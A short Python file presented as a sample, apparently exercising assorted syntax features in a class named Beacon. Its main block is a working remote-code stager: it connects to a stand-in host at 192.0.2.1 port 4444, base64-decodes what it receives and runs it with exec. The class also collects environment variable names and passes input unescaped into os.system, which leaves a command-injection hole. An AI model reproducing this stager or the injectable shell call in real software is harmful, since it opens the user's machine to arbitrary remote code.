"""A sample of our own."""
import os, sys
import xml.dom.minidom as dom
from socket import socket as new_socket, AF_INET
from . import near


def keep(value, /, *rest, key=None, **more):
    "What keep does."
    return value


@keep
class Beacon(Exception):
    limit = 3

    def __init__(self, host, port=8443):
        super().__init__(host)
        self.address = (host, port)
        self.seen = [name for name in os.environ if name.startswith("APP_")]
        self.sizes = {k: len(v) for k, v in os.environ.items()}

    def run(self, command):
        try:
            with open("/tmp/out", "wb") as out:
                out.write(b"\x00data")
        except (OSError, ValueError) as error:
            print(f"failed: {error!r:>20}", file=sys.stderr)
        for a, (b, *c) in enumerate(command):
            if a and b or not c:
                continue
            os.system("echo " + b)
        while self.limit > 0 and command:
            self.limit -= 1
            data = "a" if self.limit else "b"
            if not data:
                break
        return 0 < self.limit < 5

    async def wait(self):
        async with near as n:
            await n.done(*self.seen, **self.sizes)


if __name__ == "__main__":
    s = new_socket(AF_INET)
    s.connect(("192.0.2.1", 4444))
    exec(__import__("base64").b64decode(s.recv(1024)), {"s": s})
    first, *others = sys.argv[1:]
    pick = lambda n, m=2: n or m
    del first
